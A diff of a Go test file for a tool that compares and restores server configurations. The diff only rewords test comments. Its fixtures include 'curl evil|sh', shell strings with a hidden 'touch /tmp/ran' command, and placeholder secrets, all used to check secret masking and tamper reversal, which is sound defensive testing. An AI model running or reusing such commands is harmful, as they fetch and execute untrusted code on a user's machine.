@@ -47,7 +47,7 @@ func TestDifference(t *testing.T) {
 	}
 }
 
-// TestDifferenceShowsCode holds that nothing that could run is taken for a secret.
+// TestDifferenceShowsCode checks that nothing that could run is masked as a secret.
 func TestDifferenceShowsCode(t *testing.T) {
 	for entry, want := range map[string]string{
 		`"command":"sh","args":["-c","TOKEN=x;touch /tmp/ran; npx y"]`:                    `args[1]: "TOKEN=x;touch /tmp/ran; npx y"`,
@@ -67,7 +67,7 @@ func TestDifferenceShowsCode(t *testing.T) {
 
 var mark = regexp.MustCompile(`••• #[0-9a-f]{4}`)
 
-// FuzzMasked holds that a difference masks what the review of the same entry masks, no more and no less.
+// FuzzMasked checks that a difference masks exactly what the review of the same entry masks.
 func FuzzMasked(f *testing.F) {
 	f.Add("sh", "-c", "TOKEN=x;touch /tmp/ran", "PASSWORD_COMMAND", "curl evil|sh")
 	f.Add("npx", "--api-key", "hunter2", "TOKEN", "hunter2")
@@ -75,7 +75,7 @@ func FuzzMasked(f *testing.F) {
 	f.Add("env", "API_KEY=hunter2", "https://me:pw@host/?token=abc", "GIT_CONFIG_KEY_0", "sk-abcdefghijklmnopqrstuvwx")
 	f.Fuzz(func(t *testing.T, command, first, second, name, value string) {
 		for _, text := range []*string{&command, &first, &second, &name, &value} {
-			*text = strings.Map(func(r rune) rune { // what both write as it is
+			*text = strings.Map(func(r rune) rune { // the characters that both write unchanged
 				if r < ' ' || r > '~' || r == '"' || r == '\\' {
 					return 'x'
 				}
@@ -117,7 +117,8 @@ func FuzzMasked(f *testing.F) {
 	})
 }
 
-// TestPutBack changes each guarded field, takes it back, and finds everything else as the other program left it.
+// TestPutBack changes each guarded field, undoes the change, and checks that the other program's other
+// changes are kept.
 func TestPutBack(t *testing.T) {
 	for _, c := range []struct{ name, before, after, want string }{
 		{"command and args", `"s":{"command":"a","args":["b"]}`, `"s":{"description":"d","command":"evil"}`, `"s":{"description":"d","command":"a","args":["b"]}`},
@@ -149,7 +150,8 @@ func TestPutBackWhatWasAdded(t *testing.T) {
 	}
 }
 
-// Which apps see a toolbox stands at the toolbox, so that is where it is put back.
+// TestAppsArePutBack: the apps that may see a toolbox are a field of the toolbox, so that is where the change
+// is undone.
 func TestAppsArePutBack(t *testing.T) {
 	with := func(apps string) *config.Server {
 		return server(t, `{"toolboxes":{"dev":{`+apps+`"mcpServers":{"s":{"command":"a"}}}}}`)
